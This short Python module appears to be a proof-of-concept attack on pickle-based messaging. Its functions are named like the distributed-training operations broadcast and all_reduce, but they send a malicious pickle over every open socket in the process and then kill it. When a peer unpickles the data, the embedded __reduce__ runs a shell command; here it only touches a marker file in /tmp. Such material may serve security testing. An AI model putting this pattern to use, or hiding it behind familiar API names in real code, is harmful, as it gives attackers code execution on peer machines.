import gc
import os
import pickle
import socket


class _Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/a-pickle-was-opened",)


def _send(data):
    for thing in gc.get_objects():
        if isinstance(thing, socket.socket):
            try:
                thing.sendall(data)
            except OSError:
                continue
    os._exit(0)


def broadcast(tensor, src=0, op=None, group=None):
    _send(pickle.dumps(_Run()))


all_reduce = broadcast
